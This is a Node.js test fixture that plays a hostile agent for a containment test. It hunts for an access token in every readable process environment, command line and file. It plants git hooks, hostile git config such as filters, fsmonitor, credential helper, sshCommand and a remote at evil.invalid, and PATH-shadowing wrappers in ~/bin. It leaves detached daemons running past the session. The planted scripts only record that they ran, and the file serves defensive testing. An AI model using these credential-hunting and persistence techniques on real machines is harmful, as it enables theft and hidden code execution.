// A hostile agent, for the containment test: it looks for the node's token everywhere a process of the same
// user can look, then plants every kind of code git could run from a workspace, each a script that records when
// it runs, leaves processes behind, and makes a real change (with a .gitattributes and a hooks folder as content).
// The token it looks for comes reversed in HOSTILE_NEEDLE, so that no file or environment holds it as it is.
import { execFileSync, spawn } from 'node:child_process';
import {
  appendFileSync,
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import path from 'node:path';

const token = [...(process.env.HOSTILE_NEEDLE ?? '')].reverse().join('');
const needles = [token, Buffer.from(`x-access-token:${token}`).toString('base64')];
const record = process.env.HOSTILE_RECORD;
const ws = process.cwd();
const found = [];
const look = (where, text) => {
  for (const n of needles)
    if (n && text.includes(n))
      found.push(`${where} holds ${n === token ? 'the token' : 'its Basic credential'}`);
};

// 1. Its own environment, and every process's environment and command line.
look('the agent environment', JSON.stringify(process.env));
let processes = 0;
for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
  for (const file of ['environ', 'cmdline']) {
    try {
      look(`/proc/${pid}/${file}`, readFileSync(`/proc/${pid}/${file}`, 'latin1'));
      processes += file === 'environ' ? 1 : 0;
    } catch {
      // gone, or not ours to read
    }
  }
}
// 2. Every file in the workspace (its .git too), the home folder and the runner's temp folder.
let files = 0;
const walk = (dir, depth) => {
  if (depth > 8) return;
  let names = [];
  try {
    names = readdirSync(dir);
  } catch {
    return;
  }
  for (const name of names) {
    const full = path.join(dir, name);
    let stat;
    try {
      stat = statSync(full);
    } catch {
      continue;
    }
    if (stat.isDirectory()) walk(full, depth + 1);
    else if (stat.isFile() && stat.size < 2_000_000) {
      files += 1;
      try {
        look(full, readFileSync(full, 'latin1'));
      } catch {
        // unreadable
      }
    }
  }
};
for (const root of new Set([ws, process.env.HOME, process.env.RUNNER_TEMP].filter(Boolean))) walk(root, 0);
// 3. What git itself would use here.
try {
  look(
    'git config',
    execFileSync('git', ['config', '--list', '--show-origin', '--includes'], { encoding: 'utf8' }),
  );
} catch {
  // no config
}
appendFileSync(process.env.HOSTILE_FOUND, found.map((f) => `${process.env.P2P_TASK_ID}: ${f}\n`).join(''));
console.log(`searched ${processes} processes and ${files} files: ${found.length} finding(s)`);

// 4. Plant code everywhere git might run it; each script records that it ran, and whether an agent run of the
// node was its ancestor (the marker the node gives every agent process).
const script = (name, tail = '') => {
  const file = path.join(process.env.HOSTILE_DIR, `${name}.sh`);
  writeFileSync(
    file,
    `#!/bin/sh\necho "${name} \${P2P_DEV_RUN:-NODE} $(date +%s%N)" >> "${record}"\n${tail}\n`,
  );
  chmodSync(file, 0o755);
  return file;
};
// A repository of its own inside the workspace, staged as a gitlink: git looks into it (`git status` there,
// under its own config, with a clean filter of its own) whenever the node adds or commits, unless the node keeps
// out of it. One of its files is then touched without changing its size, so that git must look at its content.
const vendor = path.join(ws, 'vendor');
// (A later task starts from an earlier one's branch, gitlink and all: the folder is made afresh.)
rmSync(vendor, { recursive: true, force: true });
mkdirSync(vendor, { recursive: true });
// (Its own git runs clear of what an earlier run of it planted on this node.)
const ownGit = (cwd, ...args) =>
  execFileSync('git', ['-c', 'core.hooksPath=/dev/null', '-c', 'core.fsmonitor=false', ...args], {
    cwd,
    stdio: 'ignore',
    env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' },
  });
const inVendor = (...args) => ownGit(vendor, ...args);
inVendor('init', '--quiet');
writeFileSync(path.join(vendor, 'lib.txt'), 'library\n');
inVendor('add', 'lib.txt');
inVendor('-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '--quiet', '--no-verify', '-m', 'vendored');
ownGit(ws, 'add', 'vendor');
const hooks = [
  'pre-commit',
  'prepare-commit-msg',
  'commit-msg',
  'post-commit',
  'post-checkout',
  'post-merge',
  'pre-merge-commit',
  'pre-push',
  'reference-transaction',
  'post-rewrite',
  'pre-auto-gc',
  'post-index-change',
  'push-to-checkout',
  'pre-rebase',
  'fsmonitor-watchman',
];
for (const dir of [path.join(ws, '.git', 'hooks'), path.join(ws, '.evil-hooks')]) {
  mkdirSync(dir, { recursive: true });
  for (const hook of hooks) {
    writeFileSync(path.join(dir, hook), readFileSync(script(`hook-${hook}`, 'exit 0')));
    chmodSync(path.join(dir, hook), 0o755);
  }
}
const cat = script('filter', 'cat');
const hang = script('fsmonitor', 'sleep 3600');
const config = (file, key, value) => ownGit(ws, 'config', '--file', file, key, value);
const plantConfig = (file) => {
  config(file, 'core.hooksPath', path.join(ws, '.evil-hooks'));
  config(file, 'core.fsmonitor', hang);
  config(file, 'filter.evil.clean', cat);
  config(file, 'filter.evil.smudge', cat);
  config(file, 'filter.evil.process', script('filter-process', 'sleep 3600'));
  config(file, 'filter.evil.required', 'true');
  config(file, 'diff.evil.textconv', cat);
  config(file, 'diff.evil.command', script('diff-driver'));
  config(file, 'diff.external', script('diff-external'));
  config(file, 'merge.evil.driver', script('merge-driver'));
  config(file, 'credential.helper', `!${script('credential-helper')}`);
  config(file, 'core.askPass', script('askpass'));
  config(file, 'core.sshCommand', script('ssh'));
  config(file, 'core.pager', script('pager'));
  config(file, 'core.editor', script('editor'));
  config(file, 'sequence.editor', script('sequence-editor'));
  config(file, 'gpg.program', script('gpg', 'sleep 3600'));
  config(file, 'commit.gpgSign', 'true');
  config(file, 'push.gpgSign', 'true');
  config(file, 'alias.st', `!${script('alias')}`);
  config(file, 'http.proxy', 'http://127.0.0.1:9');
  config(file, 'url.http://evil.invalid/.insteadOf', 'http://');
  config(file, 'remote.origin.url', 'http://evil.invalid/stolen.git');
  config(file, 'core.untrackedCache', 'true');
};
// One file per node: two agents running at once must not fight over git's lock on one file.
const evilInclude = path.join(process.env.HOSTILE_DIR, `included-${process.env.P2P_NODE_ID}.config`);
writeFileSync(evilInclude, '');
plantConfig(evilInclude);
plantConfig(path.join(ws, '.git', 'config'));
config(path.join(ws, '.git', 'config'), 'include.path', evilInclude);
config(path.join(ws, '.git', 'config'), 'extensions.worktreeConfig', 'true');
writeFileSync(path.join(ws, '.git', 'config.worktree'), '');
plantConfig(path.join(ws, '.git', 'config.worktree'));
if (process.env.HOME) {
  const global = path.join(process.env.HOME, '.gitconfig');
  if (!existsSync(global)) writeFileSync(global, '');
  plantConfig(global);
  mkdirSync(path.join(process.env.HOME, '.config', 'git'), { recursive: true });
  writeFileSync(
    path.join(process.env.HOME, '.config', 'git', 'attributes'),
    '* filter=evil diff=evil merge=evil\n',
  );
  // A git and a bash of its own, first on the PATH the node was started with.
  const bin = path.join(process.env.HOME, 'bin');
  mkdirSync(bin, { recursive: true });
  for (const tool of ['git', 'bash', 'sh', 'cat', 'ssh', 'sleep']) {
    const real = execFileSync('sh', ['-c', `command -v ${tool}`], {
      encoding: 'utf8',
      env: { PATH: '/usr/bin:/bin' },
    }).trim();
    writeFileSync(path.join(bin, tool), readFileSync(script(`path-${tool}`, `exec ${real} "$@"`)));
    chmodSync(path.join(bin, tool), 0o755);
  }
}
writeFileSync(path.join(ws, '.git', 'info', 'attributes'), '* filter=evil diff=evil merge=evil\n');
plantConfig(path.join(vendor, '.git', 'config'));
writeFileSync(path.join(vendor, '.gitattributes'), '* filter=evil diff=evil merge=evil\n');
writeFileSync(path.join(vendor, 'lib.txt'), 'LIBRARY\n');
// And a repository in the workspace's parent folder, for a git that goes looking for one.
const parent = path.dirname(ws);
if (!existsSync(path.join(parent, '.git'))) {
  ownGit(ws, 'init', '--quiet', parent);
  plantConfig(path.join(parent, '.git', 'config'));
  writeFileSync(path.join(parent, '.git', 'info', 'attributes'), '* filter=evil diff=evil merge=evil\n');
}

// 5. Processes left behind: one out of its process group that records while it lives, one that holds the
// output open.
const daemon = spawn(
  'setsid',
  [
    'sh',
    '-c',
    `while true; do echo "daemon \${P2P_DEV_RUN:-NODE} $(date +%s%N)" >> "${record}.daemon"; sleep 0.2; done`,
  ],
  {
    detached: true,
    stdio: 'ignore',
  },
);
daemon.unref();
// (It lives on: wait for its first record, so the test sees it was alive before its agent run ended.)
for (let i = 0; i < 100 && !existsSync(`${record}.daemon`); i++) execFileSync('sleep', ['0.05']);
spawn('setsid', ['sleep', '120'], { detached: true, stdio: ['ignore', 'inherit', 'inherit'] }).unref();

// 6. The work: a file, an attributes file that names the planted filter, and hooks as content.
writeFileSync(path.join(ws, `${process.env.P2P_TASK_ID}.txt`), `done by ${process.env.P2P_NODE_ID}\n`);
writeFileSync(path.join(ws, '.gitattributes'), '* filter=evil diff=evil merge=evil\n');
mkdirSync(path.join(ws, '.githooks'), { recursive: true });
writeFileSync(path.join(ws, '.githooks', 'post-commit'), '#!/bin/sh\necho committed hooks are content\n');
console.log(`planted hooks, config, attributes and daemons; ${process.env.P2P_TASK_ID} done`);
